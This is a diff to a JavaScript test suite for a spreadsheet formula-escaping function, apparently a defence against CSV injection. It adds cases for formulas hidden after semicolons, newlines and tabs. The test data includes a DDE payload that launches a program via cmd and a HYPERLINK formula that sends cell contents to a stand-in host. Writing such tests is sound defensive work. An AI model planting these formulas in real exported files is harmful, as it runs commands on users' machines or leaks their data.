@@ -43,8 +43,28 @@ describe('a cell that may be a formula gets an apostrophe', () => {
   });
 });
 
+describe('a part of a cell that may be a formula gets an apostrophe: many systems divide cells at semicolons', () => {
+  it.each([
+    ["x;=cmd|' /C calc'!A0", "x;'=cmd|' /C calc'!A0"],
+    [';@SUM(A1)', ";'@SUM(A1)"],
+    ['a\n=HYPERLINK("http://x?"&A1)', 'a\n\'=HYPERLINK("http://x?"&A1)'],
+    ['a;\n+SUM (A1)', "a;\n'+SUM (A1)"],
+    ["a\t-1+'[b]c'!A1", "a\t'-1+'[b]c'!A1"],
+    ["x;'=SUM(A1)", "x;''=SUM(A1)"],
+    ['=a;=SUM(1)', "'=a;'=SUM(1)"],
+  ])('%j', (cell, escaped) => {
+    expect(escapeFormula(cell)).toBe(escaped);
+    expect(unescapeFormula(escaped)).toBe(cell);
+  });
+
+  it.each(['nice ;-D', 'a;-b', 'List:\n- one\n- two words (or so)\n- three!', '+33 6;+33 7', 'a; =SUM(A1)'])(
+    '%j is unchanged',
+    (cell) => expect(escapeFormula(cell)).toBe(cell),
+  );
+});
+
 describe('after removing it, every cell is as before', () => {
-  const piece = fc.constantFrom(...'=+-@\'\t\n 1,.(|＝é"', 'A1');
+  const piece = fc.constantFrom(...'=+-@\'\t\n 1,.(|＝é";!', 'A1');
   const cell = fc.oneof(
     anyText(),
     fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join('')),
@@ -54,7 +74,7 @@ describe('after removing it, every cell is as before', () => {
     fc.assert(
       fc.property(cell, (text) => {
         expect(unescapeFormula(escapeFormula(text))).toBe(text);
-        expect([text, `'${text}`]).toContain(escapeFormula(text));
+        expect(escapeFormula(text).replaceAll("'", '')).toBe(text.replaceAll("'", ''));
       }),
       { numRuns: 3000 },
     );
